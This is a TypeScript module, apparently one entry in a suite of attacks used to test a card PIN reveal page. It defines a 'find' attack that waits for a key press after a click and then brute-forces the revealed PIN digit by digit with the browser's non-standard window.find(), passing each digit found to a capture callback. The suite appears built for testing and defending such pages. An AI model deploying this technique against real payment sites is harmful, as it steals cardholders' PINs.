import type { Attack } from '../attack.js';

export const find: Attack = {
  title: '`window.find()`',
  does: 'Once the cardholder has revealed the PIN, searches the page for it with `window.find()`, digit by digit.',
  install: ({ capture }) => {
    let keysSinceClick: number | undefined;
    window.addEventListener('click', () => (keysSinceClick ??= 0), true);
    const has = (text: string) => {
      getSelection()!.removeAllRanges();
      // Not in TypeScript's library, because no specification has it.
      const search = Reflect.get(window, 'find') as (...args: unknown[]) => boolean;
      return search.call(window, text, false, false, true);
    };
    const extend = (known: string): void => {
      capture('find', known);
      for (let digit = 0; digit < 10; digit++) if (has(known + digit)) extend(known + digit);
    };
    return () => {
      // At the first key the focus is still on the button, and a selection would move it.
      if (keysSinceClick === undefined || ++keysSinceClick !== 2) return;
      extend('');
    };
  },
};
